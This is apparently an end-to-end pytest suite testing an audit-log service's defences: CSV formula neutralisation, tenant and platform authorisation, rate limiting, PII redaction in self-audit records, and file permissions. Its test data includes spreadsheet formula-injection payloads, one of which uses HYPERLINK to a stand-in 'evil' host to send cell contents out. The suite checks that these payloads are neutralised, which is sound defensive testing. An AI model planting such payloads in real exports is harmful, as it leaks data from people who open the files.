"""What a caller with a valid token can still try (issue 19), against the running server: data
that turns into an attack, tenant versus platform administration, unbounded work, what the
service records about itself, and the files and defaults of a local install."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest

from tests.conftest import LocalService, wait_for

pytestmark = pytest.mark.e2e

PLATFORM = "auditlog-platform"
EVENTS = "/api/v1/audit/events"


def _tenant(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


def _event(**fields: Any) -> dict[str, Any]:
    event: dict[str, Any] = {
        "timestamp": (datetime.now(UTC) - timedelta(minutes=1)).isoformat(),
        "event_type": "doc.read",
        "user_id": "alice",
        "resource_type": "doc",
        "action": "read",
    }
    event.update(fields)
    return event


def _own_records(service: LocalService, tenant: str, event_type: str) -> list[dict[str, Any]]:
    with service.client(PLATFORM, ["audit_admin"], sub="auditor") as admin:
        page = admin.get(
            EVENTS, params={"tenant_id": tenant, "include_self_audit": "true", "event_type": event_type}
        )
        assert page.status_code == 200, page.text
        return list(page.json()["events"])


def _records_by(service: LocalService, tenant: str, event_type: str, user: str) -> list[dict[str, Any]]:
    return [r for r in _own_records(service, tenant, event_type) if r["user_id"] == user]


def _write(service: LocalService, tenant: str, events: list[dict[str, Any]]) -> list[str]:
    with service.client(tenant, ["audit_writer", "audit_reader"]) as writer:
        answer = writer.post(f"{EVENTS}/batch", json={"events": events})
        assert answer.status_code == 202, answer.text
        ids = [r["audit_id"] for r in answer.json()["results"]]
        wait_for(lambda: all(writer.get(f"{EVENTS}/{i}").status_code == 200 for i in ids))
        return ids


# -- Data that turns into an attack ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_csv_export_neutralises_formulas_and_ndjson_keeps_the_stored_bytes(service: LocalService) -> None:
    tenant = _tenant("csv")
    events = [_event(user_id=f, resource_id=f"r-{i}", metadata={"note": f}) for i, f in enumerate(FORMULAS)]
    _write(service, tenant, events)
    with service.client(tenant, ["audit_export"]) as exporter:
        text = exporter.get(f"{EVENTS}/export", params={"format": "csv"}).text
        lines = exporter.get(f"{EVENTS}/export", params={"format": "json"}).text.splitlines()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["user_id"] for r in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        assert row["user_id"][0] == "'", "a spreadsheet shows it as text"
    assert sorted(orjson.loads(line)["user_id"] for line in lines) == sorted(FORMULAS)


def test_a_refused_callers_user_agent_is_neutralised_in_an_admins_csv(service: LocalService) -> None:
    tenant = _tenant("ua")
    agent = '=HYPERLINK("http://evil/","click")'
    with service.client(tenant, ["audit_writer"]) as writer:
        assert writer.get(EVENTS, headers={"User-Agent": agent}).status_code == 403
    wait_for(lambda: _own_records(service, tenant, "auditlog.access.denied"))
    with service.client(PLATFORM, ["system_admin"]) as admin:
        text = admin.get(
            f"{EVENTS}/export",
            params={"format": "csv", "tenant_id": tenant, "include_self_audit": "true"},
        ).text
    agents = [r["user_agent"] for r in csv.DictReader(io.StringIO(text)) if r["user_agent"]]
    assert "'" + agent in agents and agent not in agents


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"resource_id": "enc:v1:AAAA"}, "resource_id"),
        ({"user_id": "enc:v1:AAAA"}, "user_id"),
        ({"metadata": {"email": "enc:v1:AAAA"}}, "metadata"),
        ({"request_data": {"a": ["enc:v1:x"]}}, "request_data"),
    ],
)
def test_a_client_cannot_forge_an_erased_field(
    service: LocalService, fields: dict[str, Any], field: str
) -> None:
    with service.client(_tenant("forge"), ["audit_writer"]) as writer:
        refused = writer.post(EVENTS, json=_event(**fields))
    assert refused.status_code == 400, refused.text
    assert refused.json()["error"]["details"][0]["field"] == field


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"event_type": "AuditLog.events.search", "service_name": "auditlog"}, "event_type"),
        ({"event_type": "AUDITLOG.access.denied"}, "event_type"),
        ({"service_name": "AuditLog"}, "service_name"),
    ],
)
def test_the_reserved_namespace_is_reserved_in_any_case(
    service: LocalService, fields: dict[str, Any], field: str
) -> None:
    with service.client(_tenant("look"), ["audit_writer"]) as writer:
        refused = writer.post(EVENTS, json=_event(**fields))
    assert refused.status_code == 400
    assert field in {d["field"] for d in refused.json()["error"]["details"]}


# -- Authorisation ----------------------------------------------------------------------------------


def test_a_tenant_admin_administers_its_own_tenant_but_not_its_rate_limits(service: LocalService) -> None:
    tenant = _tenant("tadmin")
    with service.client(tenant, ["system_admin"]) as admin:
        policy = admin.get(f"/api/v1/admin/tenants/{tenant}/policy").json()
        policy["default_retention_days"] = 365
        assert admin.put(f"/api/v1/admin/tenants/{tenant}/policy", json=policy).status_code == 200
        policy["rate_limit"]["caller_reads_per_second"] = 1e6
        raised = admin.put(f"/api/v1/admin/tenants/{tenant}/policy", json=policy)
        assert raised.status_code == 403 and raised.json()["error"]["details"][0]["field"] == "rate_limit"
        other = admin.get(f"/api/v1/admin/tenants/{_tenant('x')}/policy")
        assert other.status_code == 403 and other.json()["error"]["details"][0]["field"] == "tenant_id"
        assert admin.post("/api/v1/audit/retention/run", params={"dry_run": "true"}).status_code == 403
        preview = admin.get("/api/v1/admin/retention/preview")
        assert preview.status_code == 200 and preview.json()["dry_run"] is True
        assert set(preview.json()["per_tenant"]) == {tenant}, "a tenant admin sees its own counts only"
        elsewhere = admin.get("/api/v1/admin/retention/preview", params={"tenant_id": _tenant("x")})
        assert elsewhere.status_code == 403
    with service.client(PLATFORM, ["system_admin"]) as platform:
        assert platform.put(f"/api/v1/admin/tenants/{tenant}/policy", json=policy).status_code == 200


def test_readers_cannot_get_the_services_own_records_by_id_or_proof(service: LocalService) -> None:
    tenant = _tenant("own")
    _write(service, tenant, [_event()])
    record = wait_for(lambda: _own_records(service, tenant, "auditlog.events.get"))[0]
    with service.client(tenant, ["audit_admin"]) as auditor:
        assert auditor.get(f"{EVENTS}/{record['audit_id']}").status_code == 200
        # Sequenced first (409 until then, longer under load): then the reader's 404 is a refusal.
        wait_for(lambda: auditor.get(f"{EVENTS}/{record['audit_id']}/proof").status_code == 200, 30)
    with service.client(tenant, ["audit_reader"]) as reader:
        assert reader.get(f"{EVENTS}/{record['audit_id']}").status_code == 404
        assert reader.get(f"{EVENTS}/{record['audit_id']}/proof").status_code == 404


# -- Unbounded work and amplification ------------------------------------------------------------


def _put_policy(service: LocalService, tenant: str, **changes: Any) -> None:
    with service.client(PLATFORM, ["system_admin"]) as admin:
        policy = admin.get(f"/api/v1/admin/tenants/{tenant}/policy").json()
        for key, value in changes.items():
            if isinstance(value, dict):
                policy[key].update(value)
            else:
                policy[key] = value
        assert admin.put(f"/api/v1/admin/tenants/{tenant}/policy", json=policy).status_code == 200


def test_refusals_are_charged_and_recorded_once_per_caller_and_reason(fresh_service: LocalService) -> None:
    tenant = _tenant("stolen")
    _put_policy(
        fresh_service,
        tenant,
        ip_allowlist=["203.0.113.0/24"],
        rate_limit={"caller_reads_per_second": 0.01, "caller_read_burst": 5},
    )
    with fresh_service.client(tenant, ["audit_reader"], sub="thief") as thief:
        answers = [thief.get(EVENTS).status_code for _ in range(8)]
    assert answers == [403] * 5 + [429] * 3, "a refusal costs a request token"
    records = wait_for(lambda: _own_records(fresh_service, tenant, "auditlog.access.denied"))
    assert len([r for r in records if r["user_id"] == "thief"]) == 1, "one record, not one per attempt"


def test_a_long_export_costs_its_pages(fresh_service: LocalService) -> None:
    tenant = _tenant("long")
    _put_policy(fresh_service, tenant, rate_limit={"caller_reads_per_second": 0.01, "caller_read_burst": 40})
    start = (datetime.now(UTC) - timedelta(days=2500)).isoformat()
    with fresh_service.client(tenant, ["audit_export"]) as exporter:
        assert exporter.get(f"{EVENTS}/export", params={"start_time": start}).status_code == 200
        assert exporter.get(EVENTS).status_code == 429, "2500 days took the whole bucket"


def test_a_reads_record_is_bounded_and_keeps_the_ids_apart(service: LocalService) -> None:
    tenant = _tenant("bound")
    # Within what a URL may carry (~64 KB here), and over what a record keeps (8 KiB of filters).
    params = [("user_id", f"{i:04d}" + "u" * 300) for i in range(60)]
    with service.client(tenant, ["audit_reader"], sub="big") as reader:
        ids = {"X-Request-ID": "mine", "X-Correlation-ID": "c" * 999}
        answer = reader.get(EVENTS, params=params, headers=ids)
        assert answer.status_code == 200, answer.text
    record = wait_for(lambda: _records_by(service, tenant, "auditlog.events.search", "big"))[0]
    assert len(orjson.dumps(record["request_data"])) <= 16 * 1024
    assert record["request_data"]["omitted"] > 0
    assert record["metadata"]["request_id"] == answer.headers["X-Request-ID"] != "mine"
    assert record["metadata"]["client_request_id"] == "mine"
    assert record["correlation_id"] == "c" * 256


def test_search_filters_follow_the_tenants_pii_rules_in_the_record(service: LocalService) -> None:
    tenant = _tenant("pii-filter")
    _put_policy(
        service,
        tenant,
        pii_rules=[{"field": "user_id", "action": "hash"}, {"field": "metadata.email", "action": "encrypt"}],
    )
    _write(service, tenant, [_event(user_id="carol", metadata={"email": "carol@example.com"})])
    with service.client(tenant, ["audit_reader"], sub="hr") as reader:
        found = reader.get(EVENTS, params={"user_id": "carol", "metadata.email": "carol@example.com"})
        assert found.status_code == 200
        by_user = reader.get(EVENTS, params={"user_id": "carol"}).json()["events"]
        assert len(by_user) == 1, "a hashed field is still found by its clear value"
    records = wait_for(lambda: _records_by(service, tenant, "auditlog.events.search", "hr"))
    recorded = orjson.dumps([r["request_data"] for r in records])
    assert b"carol" not in recorded, "no clear personal value in the service's own records"
    filters = next(
        r["request_data"]["filters"] for r in records if "metadata.email" in r["request_data"]["filters"]
    )
    assert filters["user_id"][0].startswith("hmac-sha256:")
    assert filters["metadata.email"] == ["[redacted]"]


# -- What the service records about itself --------------------------------------------------------


def test_every_read_is_recorded_and_an_export_before_its_first_byte(service: LocalService) -> None:
    tenant = _tenant("cover")
    _write(service, tenant, [_event()])
    with service.client(tenant, ["audit_reader", "audit_export"], sub="r") as reader:
        wait_for(lambda: reader.get("/api/v1/audit/checkpoints/latest").status_code == 200, 10)
        size = reader.get("/api/v1/audit/checkpoints/latest").json()["tree_size"]
        assert reader.get(f"/api/v1/audit/checkpoints/{size}").status_code == 200
        assert reader.get("/api/v1/audit/proofs/consistency", params={"first": "0"}).status_code == 200
        with reader.stream("GET", f"{EVENTS}/export") as stream:
            stream.read()
    with service.client(tenant, ["system_admin"], sub="adm") as admin:
        assert admin.get(f"/api/v1/admin/tenants/{tenant}/policy").status_code == 200
        assert admin.get("/api/v1/admin/legal-holds").status_code == 200
        assert admin.get("/api/v1/admin/erasures").status_code == 200
    for event_type in (
        "auditlog.checkpoints.get",
        "auditlog.proofs.consistency",
        "auditlog.policy.get",
        "auditlog.legal_hold.list",
        "auditlog.subject.list",
    ):
        assert wait_for(lambda t=event_type: _own_records(service, tenant, t)), event_type

    def exports() -> list[dict[str, Any]]:
        found = _own_records(service, tenant, "auditlog.events.export")
        return found if len(found) == 2 else []

    assert sorted(r["status"] for r in wait_for(exports)) == ["started", "success"]


# -- Bad input that gave 500 ---------------------------------------------------------------------


def test_tenant_ids_outside_the_allowed_form_are_refused(service: LocalService) -> None:
    with service.client("__t__", ["audit_reader"]) as odd:
        refused = odd.get(EVENTS)
    assert refused.status_code == 401 and "tenant_id" in refused.json()["error"]["message"]
    with service.client(PLATFORM, ["system_admin"]) as admin:
        bad = admin.get("/api/v1/admin/tenants/__x__/policy")
        assert bad.status_code == 400 and bad.json()["error"]["details"][0]["field"] == "tenant_id"
        bad = admin.get(EVENTS, params={"tenant_id": "a/b"})
        assert bad.status_code == 400


def test_deeply_nested_metadata_and_a_newline_in_a_key_are_400(service: LocalService) -> None:
    deep: dict[str, Any] = {}
    node = deep
    for _ in range(300):
        node["a"] = {}
        node = node["a"]
    with service.client(_tenant("deep"), ["audit_writer", "audit_reader"]) as client:
        refused = client.post(EVENTS, json=_event(metadata=deep))
        assert refused.status_code == 400 and refused.json()["error"]["details"][0]["field"] == "metadata"
        newline = client.get(EVENTS, params={"metadata.region\n": "eu"})
        assert newline.status_code == 400


# -- Files and defaults ---------------------------------------------------------------------------


def test_the_data_dir_and_every_file_in_it_are_the_users_alone(fresh_service: LocalService) -> None:
    _write(fresh_service, _tenant("files"), [_event()])
    data = fresh_service.data_dir
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    files = [p for p in data.rglob("*")]
    assert files
    for path in files:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o077 == 0, f"{path.name} is {oct(mode)}"


def test_the_development_issuer_refuses_a_network_address(tmp_path: Any) -> None:
    env = {**os.environ, "AUDITLOG_DATA_DIR": str(tmp_path), "AUDITLOG_HOST": "0.0.0.0"}
    env.pop("AUDITLOG_ALLOW_DEVELOPMENT_ON_NETWORK", None)
    done = subprocess.run(
        [sys.executable, "-m", "auditlog.cli", "token", "--tenant", "a", "--roles", "audit_reader"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode != 0
    assert "AUDITLOG_ALLOW_DEVELOPMENT_ON_NETWORK" in done.stderr
    allowed = subprocess.run(
        [sys.executable, "-m", "auditlog.cli", "token", "--tenant", "a", "--roles", "audit_reader"],
        env={**env, "AUDITLOG_ALLOW_DEVELOPMENT_ON_NETWORK": "true"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert allowed.returncode == 0, allowed.stderr
    assert allowed.stdout.strip().count(".") == 2, "a token"
